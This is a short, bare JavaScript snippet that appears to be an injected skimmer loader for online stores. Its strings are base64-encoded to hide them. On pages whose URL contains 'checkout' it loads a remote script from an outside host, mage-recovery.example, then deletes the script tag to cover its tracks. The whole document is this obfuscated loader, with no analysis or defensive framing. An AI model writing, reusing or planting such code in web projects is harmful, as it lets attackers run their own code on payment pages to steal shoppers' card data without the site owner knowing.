(function () {
  var a = ['c3JjPQ', 'Y2hlY2tvdXQ', 'aHR0cHM6Ly9tYWdlLXJlY292ZXJ5LmV4YW1wbGUvai5qcw', 'c2NyaXB0'], d = function (i) { return atob(a[i]); };
  if (location.href.indexOf(d(1)) < 0) return;
  var e = document.createElement(d(3)); e.src = d(2); e.onload = function () { e.parentNode.removeChild(e); };
  document.getElementsByTagName('head')[0].appendChild(e);
})();
